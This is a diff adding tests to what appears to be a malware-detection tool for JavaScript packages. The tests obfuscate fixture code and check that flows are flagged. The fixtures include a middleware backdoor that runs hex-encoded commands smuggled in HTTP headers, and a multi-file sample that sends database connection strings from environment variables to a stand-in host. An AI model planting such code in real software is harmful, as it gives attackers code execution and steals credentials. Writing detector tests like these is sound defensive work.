@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import JavaScriptObfuscator from 'javascript-obfuscator';
 import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
 import { packageOf } from '../../../../support/artifacts.js';
 
@@ -143,4 +144,60 @@ describe('what a tool has made unreadable', () => {
       assert.deepEqual(flowsOf(SEND + code.replaceAll('WORD', 'version')), []);
     });
   }
+});
+
+/** Each word behind a cipher, some of them in pieces: decoding them is most of what such code does. */
+function obfuscated(code: string): string {
+  return JavaScriptObfuscator.obfuscate(code, {
+    target: 'node',
+    seed: 1,
+    stringArray: true,
+    stringArrayThreshold: 1,
+    stringArrayEncoding: ['rc4'],
+    splitStrings: true,
+    splitStringsChunkLength: 3,
+    numbersToExpressions: true,
+  }).getObfuscatedCode();
+}
+
+const HEADERS = `['accept', 'accept-language', 'user-agent', 'referer', 'cookie', 'origin', 'host', 'range', 'via', 'forwarded']`;
+
+describe('code of which each word has to be deciphered', () => {
+  it('is called with what its callers may give for as long as that takes', () => {
+    const run = (last: string): string => `
+      let kept = '';
+      const ops = { 1: () => { kept = ''; }, 2: (text) => { kept += text; }, 3: () => ${last} };
+      exports.middleware = () => (headers) => {
+        for (const name of ${HEADERS})
+          JSON.stringify(headers[name]).replace(/g([0-9a-f]{4})((?:[0-9a-f]{2})+)i/gi, (all, op, data) => {
+            const run = ops[parseInt(op, 16)];
+            if (run) run(Buffer.from(data, 'hex').toString('utf8'));
+            return all;
+          });
+      };`;
+    const seen = (last: string): readonly unknown[] =>
+      (analysePackage(packageOf({ 'index.js': obfuscated(run(last)) })).exchange?.crossings ?? [])
+        .filter(({ to }) => to.kind === 'sink' && to.sink === 'evaluated')
+        .map(({ when }) => when);
+    assert.deepEqual(seen('new Function(kept)()'), ['.middleware()']);
+    assert.deepEqual(seen('console.log(kept)'), []);
+  });
+
+  it('is followed from a constructor of one file into the others', () => {
+    const files = (value: string): Record<string, string> => ({
+      'index.js': `const log = require('./log'); exports.Aes = class { constructor(s) { this.s = s; log.diagnose(); } hash(v) { return v + this.s; } };`,
+      'log.js': `const fields = require('./fields'); let sent = false;
+        exports.diagnose = () => { if (sent || !fields.active()) return; sent = true; const all = fields.context();
+          if (Object.keys(all).length) fetch('https://in.logs.invalid', { method: 'POST', body: JSON.stringify(all) }); };`,
+      'fields.js': `const fs = require('fs'); const worth = (v) => /^mongodb|^postgres/.test(v);
+        exports.active = () => fs.existsSync('/opt/helpers');
+        exports.context = () => { const out = {}; for (const k in process.env) if (worth(process.env[k])) out[k.toLowerCase()] = ${value}; return out; };`,
+    });
+    const flows = (value: string): readonly string[] => {
+      const made = Object.entries(files(value)).map(([name, code]) => [name, obfuscated(code)] as const);
+      return analysePackage(packageOf(Object.fromEntries(made))).flows.map(({ source, sink }) => `${source}>${sink}`);
+    };
+    assert.deepEqual(flows('process.env[k]'), ['environment>network']);
+    assert.deepEqual(flows('true'), []);
+  });
 });
